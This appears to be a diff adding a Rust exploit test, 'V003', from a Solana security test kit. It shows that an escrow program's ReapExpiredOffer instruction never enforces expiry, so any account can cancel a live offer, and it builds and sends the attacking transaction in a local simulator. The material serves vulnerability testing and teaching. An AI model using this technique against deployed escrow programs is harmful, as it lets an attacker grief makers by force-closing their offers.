@@ -0,0 +1,123 @@
+// Exploit: Live Offer Reaped (Expiration Never Enforced)
+//
+// Vulnerability: ReapExpiredOffer reads expires_at and the clock but never compares them.
+// Attack: Anyone calls the permissionless reap on an offer that is still open.
+// Result: The offer is cancelled long before its deadline, without the maker's consent.
+//
+// Token A still returns to the maker's ATA, so nothing is stolen. The damage is griefing:
+// any open offer can be force-closed, e.g. by front-running a taker who is about to fill it.
+
+mod utils;
+
+use utils::*;
+
+use litesvm::types::TransactionResult;
+use litesvm_token::{
+    spl_token::state::Account as TokenAccount,
+    get_spl_account,
+};
+use solana_sdk::{
+    instruction::{AccountMeta, Instruction},
+    native_token::LAMPORTS_PER_SOL,
+    signature::{Keypair, Signer},
+    transaction::Transaction,
+};
+use soteria_test_kit::{run_exploit, ExploitInfo, ExploitScenario, Severity};
+use solana_system_interface::program::ID as SYSTEM_PROGRAM_ID;
+
+struct ReapLiveOffer;
+
+struct ReapState {
+    scenario: EscrowScenario,
+    attacker: Keypair,
+}
+
+impl ExploitScenario for ReapLiveOffer {
+    type State = ReapState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V003",
+            title: "Live Offer Reaped - Expiration Never Enforced",
+            severity: Severity::Critical,
+            lesson: "Only let ReapExpiredOffer close offers whose expires_at is in the past",
+        }
+    }
+
+    fn setup(&self) -> ReapState {
+        println!("[Scenario] Attacker reaps an offer that has not expired yet");
+
+        let mut scenario = setup_escrow_scenario();
+        let attacker = create_funded_account(&mut scenario.svm, 5 * LAMPORTS_PER_SOL);
+
+        create_offer(
+            &mut scenario.svm,
+            &scenario.proposer,
+            &scenario.mint_a,
+            &scenario.mint_b,
+            &scenario.proposer_ata_a,
+            &scenario.offer_pda,
+            &scenario.vault_ata,
+            scenario.offer_id,
+            scenario.bump,
+        );
+        println!("[Setup] Offer created, expires in {} seconds", OFFER_DURATION_SECONDS);
+
+        ReapState { scenario, attacker }
+    }
+
+    fn exploit(&self, state: &mut ReapState) -> TransactionResult {
+        let scenario = &mut state.scenario;
+
+        // No clock advance - the offer is still live
+        let reap_ix = Instruction {
+            program_id: PROGRAM_ID,
+            accounts: vec![
+                AccountMeta::new(state.attacker.pubkey(), true),
+                AccountMeta::new(scenario.proposer.pubkey(), false),
+                AccountMeta::new_readonly(scenario.mint_a, false),
+                AccountMeta::new(scenario.proposer_ata_a, false),
+                AccountMeta::new(scenario.offer_pda, false),
+                AccountMeta::new(scenario.vault_ata, false),
+                AccountMeta::new_readonly(TOKEN_PROGRAM_ID, false),
+                AccountMeta::new_readonly(SYSTEM_PROGRAM_ID, false),
+                AccountMeta::new_readonly(ASSOCIATED_TOKEN_PROGRAM_ID, false),
+            ],
+            data: build_reap_expired_offer_data(),
+        };
+
+        let tx = Transaction::new_signed_with_payer(
+            &[reap_ix],
+            Some(&state.attacker.pubkey()),
+            &[&state.attacker],
+            scenario.svm.latest_blockhash(),
+        );
+
+        println!("[Attack] Sending ReapExpiredOffer on a live offer...");
+        scenario.svm.send_transaction(tx)
+    }
+
+    fn assert_impact(&self, state: &mut ReapState) -> u64 {
+        let scenario = &state.scenario;
+        println!("[VULNERABLE] Transaction accepted by escrow program!");
+
+        let offer_account = scenario.svm.get_account(&scenario.offer_pda);
+        let offer_closed = offer_account.is_none() || offer_account.unwrap().data.is_empty();
+        assert!(offer_closed, "Offer should have been closed by the attacker");
+        println!("[Result] Offer PDA closed before its deadline");
+
+        let proposer_balance: TokenAccount = get_spl_account(&scenario.svm, &scenario.proposer_ata_a)
+            .expect("Proposer ATA A should exist");
+        println!("[Result] Proposer Token A: {} (returned, offer no longer fillable)", proposer_balance.amount);
+
+        println!("[EXPLOIT SUCCESS] Anyone can reap any open offer!");
+
+        // Token A goes back to the maker: griefing, nothing stolen
+        0
+    }
+}
+
+#[test]
+fn test_exploit_reap_live_offer() {
+    run_exploit(&ReapLiveOffer);
+}